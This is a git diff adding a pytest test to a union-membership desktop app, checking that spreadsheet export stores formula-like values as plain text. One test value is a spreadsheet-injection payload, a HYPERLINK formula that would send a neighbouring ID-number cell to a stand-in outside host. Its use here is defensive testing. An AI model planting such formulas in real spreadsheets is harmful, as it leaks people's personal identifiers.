@@ -12,6 +12,7 @@ import pytest
 
 from desktop.db import Database
 from desktop.errors import UnionDeskError
+from desktop.services import members
 from desktop.services.member_queries import MemberFilter
 from desktop.spreadsheets import importer
 from desktop.spreadsheets.checking import ImportOptions
@@ -167,3 +168,25 @@ def test_export_writes_real_date_cells(db: Database, tmp_path: Path) -> None:
     for label in ("身份证号", "手机号"):  # identifiers stay text, never numbers
         assert ws.cell(row=2, column=header.index(label) + 1).data_type == "s"
     assert ws.cell(row=2, column=header.index("所属工会") + 1).number_format == "General"
+
+
+def test_export_never_writes_a_formula(db: Database, tmp_path: Path) -> None:
+    ids = setup_registry(db)
+    trap = '=HYPERLINK("http://example.invalid/?"&B2,"点此核对")'
+    members.add(
+        db,
+        {
+            "name": "张三",
+            "id_number": make_id(seq=3),
+            "union_id": ids["甲公司工会"],
+            "employer": "=1+1",
+            "notes": trap,
+        },
+    )
+    result = export_members(db, tmp_path / "safe.xlsx", unmasked=True)
+    with zipfile.ZipFile(result.path) as zf:
+        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
+    row = dict(zip(read_sheet(result.path)[0], read_sheet(result.path)[1], strict=True))
+    assert row["工作单位"] == "=1+1" and row["备注"] == trap
+    again = importer.prepare(db, result.path, ImportOptions(on_duplicate="update", today=TODAY))
+    assert again.counts["unchanged"] == 1, again.problems
